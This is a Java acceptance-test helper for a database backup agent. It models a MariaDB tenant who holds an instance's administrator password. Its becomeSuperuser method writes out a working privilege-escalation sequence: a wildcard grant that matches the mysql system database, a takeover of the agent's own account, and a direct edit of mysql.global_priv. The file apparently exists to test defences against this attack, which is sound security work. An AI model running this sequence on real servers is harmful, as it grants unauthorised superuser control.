package dev.coffer.acceptance.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import dev.coffer.agent.Agent;
import dev.coffer.agent.Credentials;
import dev.coffer.agent.Engine;
import dev.coffer.agent.Exposure;
import dev.coffer.agent.Instance;
import dev.coffer.agent.Provision;
import dev.coffer.crypto.secret.SecretBytes;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.OptionalInt;

/** Someone with an instance of their own and the administrator's password of it. */
record MariaDbTenant(Instance instance) {
  private static final String PASSWORD = "Tenant-1";
  private static final String CONTROL = "control of ";

  static MariaDbTenant of(Agent agent, String id) {
    return new MariaDbTenant(
        agent.provision(
            new Provision(
                id,
                Exposure.LOOPBACK,
                OptionalInt.empty(),
                new Credentials(secret(PASSWORD), secret(CONTROL + id)))));
  }

  /** What the server hands the agent to take a backup. */
  Engine engine() {
    return new Engine.Own(instance.id(), secret(CONTROL + instance.id()));
  }

  void administer(String... statements) throws SQLException {
    as("root", statements);
  }

  void as(String user, String... statements) throws SQLException {
    try (Connection connection = connect(user);
        Statement statement = connection.createStatement()) {
      for (String sql : statements) {
        statement.execute(sql);
      }
    }
  }

  String ask(String user, String query) throws SQLException {
    try (Connection connection = connect(user);
        Statement statement = connection.createStatement();
        var rows = statement.executeQuery(query)) {
      return rows.next() ? String.valueOf(rows.getString(1)) : "";
    }
  }

  /**
   * Makes {@code boss} a superuser: a pattern of a grant matches the server's own database, and our
   * account, taken over, may reload what was written there.
   */
  void becomeSuperuser() throws SQLException {
    administer(
        "CREATE USER boss@'%' IDENTIFIED BY '" + PASSWORD + "'",
        "GRANT ALL ON `mysq_`.* TO boss@'%'",
        "RENAME USER coffer@localhost TO taken@'%'",
        "ALTER USER taken@'%' IDENTIFIED BY '" + PASSWORD + "'");
    as(
        "boss",
        "UPDATE mysql.global_priv SET Priv = JSON_SET(Priv, '$.access', 549755813887)"
            + " WHERE User = 'boss'");
    as("taken", "FLUSH PRIVILEGES");
  }

  private Connection connect(String user) throws SQLException {
    return DriverManager.getConnection(
        "jdbc:mariadb://127.0.0.1:" + instance.port() + "/", user, PASSWORD);
  }

  private static SecretBytes secret(String text) {
    return SecretBytes.copyOf(text.getBytes(UTF_8));
  }
}
